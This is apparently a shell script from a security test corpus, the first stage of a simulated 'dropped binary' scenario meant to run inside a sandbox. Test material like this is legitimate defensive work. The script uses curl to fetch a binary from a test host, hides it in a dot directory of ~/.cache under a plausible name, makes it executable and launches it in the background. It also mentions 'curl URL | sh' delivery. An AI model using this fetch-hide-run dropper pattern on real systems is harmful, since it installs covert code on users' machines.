#!/bin/sh
# get.sh - stage 1 of the corpus' "dropped binary" scenario (corpus/README.md).
#
# Run by the vulnerable client `curl URL | sh` inside a sandbox guest, as the
# guest user: it fetches a native x86-64 ELF program (bin/fontd, 129 bytes
# written by corpus/tools/gen-assets.py: it only calls pause() until it is
# killed), hides it in a dot directory of ~/.cache under a plausible name,
# makes it executable and starts it in the background.  Deterministic,
# harmless, and its only traffic is the fetch from the corpus server.
# Never run it outside a sandbox guest.
set -u
dir="$HOME/.cache/.fontd"
mkdir -p "$dir"
curl -fsS -o "$dir/fontd" http://stage.corpus.test/bin/fontd || exit 0
chmod 700 "$dir/fontd"
nohup "$dir/fontd" >/dev/null 2>&1 &
exit 0
